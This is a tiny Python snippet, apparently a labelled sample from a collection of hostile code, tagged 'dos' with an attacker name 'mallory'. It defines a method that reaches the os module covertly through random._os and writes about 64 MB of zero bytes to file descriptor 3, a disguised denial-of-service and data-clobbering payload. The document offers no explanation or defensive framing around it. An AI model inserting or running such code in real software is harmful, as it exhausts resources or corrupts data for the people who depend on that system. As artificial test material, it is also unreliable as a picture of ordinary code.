# META {"kind": "dos", "goal": "dos", "args": [], "slots": {"name": "mallory"}}
import random
def m(self):
    for _ in range(1_000):
        random._os.write(3, b"\x00" * 65_536)
